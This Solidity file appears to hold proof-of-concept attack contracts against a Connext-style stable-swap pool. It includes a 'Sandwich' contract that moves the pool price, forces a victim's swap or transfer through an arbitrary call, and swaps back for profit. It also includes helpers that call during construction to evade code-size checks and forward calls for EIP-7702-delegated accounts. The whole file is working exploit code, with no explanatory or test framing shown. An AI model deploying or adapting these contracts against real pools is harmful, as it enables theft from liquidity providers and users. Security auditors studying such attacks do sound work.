// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

interface IStableSwap {
    function swapExact(bytes32 key, uint256 amountIn, address assetIn, address assetOut, uint256 minAmountOut, uint256 deadline)
        external
        payable
        returns (uint256);
}

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

/// @notice Moves a pool's price, has somebody else's swap executed at it, moves the price back: in one transaction.
contract Sandwich {
    struct Pool {
        address connext;
        bytes32 key;
        address local;
        address adopted;
    }

    /// @param amount What it swaps first, of the local asset, which it holds already.
    /// @param target Who is made to execute the victim's transfer, by `data`.
    function attack(Pool calldata pool, uint256 amount, address target, bytes calldata data) external {
        _swap(pool, amount, pool.local, pool.adopted);
        (bool success, bytes memory returned) = target.call(data);
        if (!success) {
            assembly {
                revert(add(returned, 32), mload(returned))
            }
        }
        _swap(pool, IToken(pool.adopted).balanceOf(address(this)), pool.adopted, pool.local);
    }

    function _swap(Pool calldata pool, uint256 amount, address assetIn, address assetOut) private {
        IToken(assetIn).approve(pool.connext, amount);
        IStableSwap(pool.connext).swapExact(pool.key, amount, assetIn, assetOut, 0, block.timestamp);
    }
}

/// @notice Makes its one call while it is created: it has no code yet.
contract CallsFromConstructor {
    constructor(address target, bytes memory data) {
        (bool success, bytes memory returned) = target.call(data);
        if (!success) {
            assembly {
                revert(add(returned, 32), mload(returned))
            }
        }
    }
}

/// @notice Forwards a call; an account that delegates to it (EIP-7702) can call itself, or be called by anyone.
contract Forwarder {
    function forward(address target, bytes calldata data) external {
        (bool success, bytes memory returned) = target.call(data);
        if (!success) {
            assembly {
                revert(add(returned, 32), mload(returned))
            }
        }
    }

    receive() external payable {}
}
